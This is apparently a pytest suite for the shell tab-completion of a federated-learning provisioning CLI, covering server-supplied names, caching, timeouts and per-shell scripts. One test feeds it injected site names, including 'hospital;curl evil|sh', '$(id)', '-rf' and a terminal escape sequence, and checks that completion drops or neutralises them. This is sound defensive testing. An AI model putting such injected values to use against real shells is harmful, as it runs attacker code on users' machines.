# SPDX-License-Identifier: Apache-2.0
"""Completion of what only the server knows: quick, and silent when it cannot be had."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import time
from dataclasses import fields
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.shell_completion import ShellComplete

from flprov._base import canonical_json
from flprov.cli import completion, root
from flprov.cli.acting import remember
from flprov.errors import ServerUnavailable
from flprov.kits import provision
from flprov.project import Organisation, Person, Project, ServerParty, SiteParty
from flprov.wire import documents

OFFERS = {
    "sites": [("hospital-a", "connected"), ("hospital-b", "disconnected"), ("clinic", "connected")],
    "people": [("alice", "project_admin active"), ("bob", "lead revoked")],
    "apps": [("heart", "new"), ("heart", "old"), ("lung", "x")],
    "jobs": [("1rx3b", "heart running"), ("1rx3a", "heart completed")],
    "orgs": [("org-a", ""), ("org-b", ""), ("org-a", "")],
    "invites": [("clinic", "waiting 7f3a")],
}


@pytest.fixture(autouse=True)
def _home(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.delenv("FLPROV_KIT", raising=False)
    completion._answers.clear()


@pytest.fixture
def asked(monkeypatch):
    """Answers of a server; the list gets each question."""
    questions = []

    async def ask(kit: Path, what: str):
        questions.append((str(kit), what))
        return OFFERS[what]

    monkeypatch.setattr(completion, "_ask", ask)
    return questions


@pytest.fixture
def chosen(tmp_path):
    remember(tmp_path / "kit")
    return tmp_path / "kit"


def complete(*words: str) -> list[tuple[str, str, str]]:
    *before, incomplete = words
    items = ShellComplete(root, {}, "flprov", "X").get_completions(before, incomplete)
    return [(item.type, item.value, item.help) for item in items]


def values(*words: str) -> list[str]:
    return [value for _, value, _ in complete(*words)]


def test_names_of_sites_come_from_the_server(asked, chosen):
    assert complete("site", "show", "hos") == [
        ("plain", "hospital-a", "connected"),
        ("plain", "hospital-b", "disconnected"),
    ]
    assert asked == [(str(chosen), "sites")]


def test_a_server_writes_no_command_onto_the_line_of_a_shell(chosen, monkeypatch):
    async def ask(_kit, _what):
        return [
            ("hospital;curl evil|sh", ""),
            ("hospital$(id)", ""),
            ("hospital\nplain,x", ""),
            ("-rf", ""),
            ("hospital", "con\033[2J"),
        ]

    monkeypatch.setattr(completion, "_ask", ask)
    assert complete("site", "show", "") == [("plain", "hospital", "con\N{REPLACEMENT CHARACTER}[2J")]


@pytest.mark.parametrize("verb", ["show", "wait", "logs", "abort", "download", "why"])
def test_ids_of_jobs_are_completed_newest_first(asked, chosen, verb):
    assert values("job", verb, "") == ["last", "1rx3b", "1rx3a"]


def test_names_of_people_are_completed_where_people_are_meant(asked, chosen):
    assert complete("user", "rm", "b") == [("plain", "bob", "lead revoked")]
    assert values("cert", "revoke", "") == ["hospital-a", "hospital-b", "clinic", "alice", "bob"]


def test_rows_of_the_log_are_about_jobs_and_sites(asked, chosen):
    assert values("events", "--object", "") == ["1rx3b", "1rx3a", "hospital-a", "hospital-b", "clinic"]
    assert values("events", "--who", "a") == ["alice"]


def test_each_organisation_is_offered_once(asked, chosen):
    assert values("site", "add", "new", "--org", "") == ["org-a", "org-b"]


def test_invites_are_offered_by_their_sites(asked, chosen):
    assert complete("invite", "approve", "") == [("plain", "clinic", "waiting 7f3a")]


def test_a_beginning_of_an_id_narrows_it(asked, chosen):
    assert values("job", "show", "1rx3a") == ["1rx3a"]


def test_a_list_of_sites_is_completed_at_its_end(asked, chosen):
    assert values("job", "submit", "x", "--sites", "clinic,h") == ["clinic,hospital-a", "clinic,hospital-b"]
    assert values("job", "submit", "x", "--sites", "clinic,") == ["clinic,hospital-a", "clinic,hospital-b"]


def test_logs_are_also_the_servers(asked, chosen):
    assert values("job", "logs", "last", "--site", "") == ["hospital-a", "hospital-b", "clinic", "server"]


def test_each_app_is_offered_once_as_its_newest(asked, chosen):
    assert complete("app", "show", "") == [("plain", "heart", "new"), ("plain", "lung", "x")]


def test_submit_takes_an_app_or_a_folder(asked, chosen):
    assert complete("job", "submit", "h") == [("plain", "heart", "new"), ("dir", "h", None)]
    assert complete("job", "submit", "./h") == [("dir", "./h", None)]


def test_the_kit_that_the_line_names_is_asked(asked, chosen):
    values("--kit", "/other/kit", "site", "show", "")
    assert asked == [("/other/kit", "sites")]


def test_the_kit_of_the_environment_is_asked(asked, chosen, monkeypatch):
    monkeypatch.setenv("FLPROV_KIT", "/env/kit")
    values("site", "show", "")
    assert asked == [("/env/kit", "sites")]


def test_an_answer_serves_for_two_seconds(asked, chosen, monkeypatch):
    now = [100.0]
    monkeypatch.setattr(completion.time, "monotonic", lambda: now[0])
    values("site", "show", "")
    now[0] = 101.9
    values("site", "show", "h")
    assert len(asked) == 1
    now[0] = 102.0
    values("site", "show", "h")
    assert len(asked) == 2


def test_without_a_kit_nothing_is_offered_and_nothing_said(asked, capsys):
    assert values("site", "show", "") == []
    assert asked == []
    assert capsys.readouterr() == ("", "")


@pytest.mark.parametrize("error", [ServerUnavailable("x"), OSError("x"), TimeoutError(), ValueError("x")])
def test_a_failure_offers_nothing_and_says_nothing(chosen, monkeypatch, capsys, error):
    questions = []

    async def ask(kit: Path, what: str):
        questions.append(what)
        raise error

    monkeypatch.setattr(completion, "_ask", ask)
    assert values("job", "show", "") == []
    assert values("job", "show", "") == []
    assert len(questions) == 1  # nor is it tried at each key
    assert capsys.readouterr() == ("", "")


@pytest.mark.parametrize("what", sorted(OFFERS))
def test_what_the_server_lists_is_read_whatever_else_it_says(what):
    _, document, _ = completion._questions()[what]
    kind = getattr(documents, document)
    answer = canonical_json(kind(**{fields(kind)[0].name: ()}))  # of jobs it also says whether there are more
    assert completion._items(document, answer) == ()


@pytest.fixture(scope="module")
def silent_server():
    """Takes connections and never says a word."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


def test_a_server_that_does_not_answer_is_not_waited_for(silent_server, tmp_path, monkeypatch):
    project = Project(
        name="heart",
        trust_domain="heart.example",
        organisations=(Organisation(name="a"),),
        server=ServerParty(name="server", org="a", endpoints=(f"127.0.0.1:{silent_server}",)),
        sites=(SiteParty(name="hospital", org="a"),),
        people=(Person(name="alice", org="a", role="project_admin"),),
        source=tmp_path / "project.yml",
    )
    provision(project, tmp_path / "workspace", now=datetime.now(UTC))
    remember(tmp_path / "workspace" / "kits" / "alice")
    monkeypatch.setattr(completion, "_PATIENCE", 0.2)
    began = time.monotonic()
    assert values("site", "show", "") == []
    assert time.monotonic() - began < 5.0


def in_shell(tmp_path, **variables: str) -> str:
    code = (
        f"import sys; sys.path[:] = {sys.path!r}; sys.argv = ['flprov']; from flprov.cli import main; main()"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        env={**os.environ, "XDG_CONFIG_HOME": str(tmp_path), **variables},
        timeout=60,
    )
    assert (done.returncode, done.stderr) == (0, "")
    return done.stdout


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_each_shell_gets_its_script(tmp_path, shell, monkeypatch):
    if shell == "bash" and not Path("/bin/bash").exists():
        pytest.skip("bash is not here, and click asks it for its version")
    assert "_FLPROV_COMPLETE" in in_shell(tmp_path, _FLPROV_COMPLETE=f"{shell}_source")


def test_a_shell_gets_the_words(tmp_path):
    found = in_shell(tmp_path, _FLPROV_COMPLETE="bash_complete", COMP_WORDS="flprov po", COMP_CWORD="1")
    assert found == "plain,poc\n"
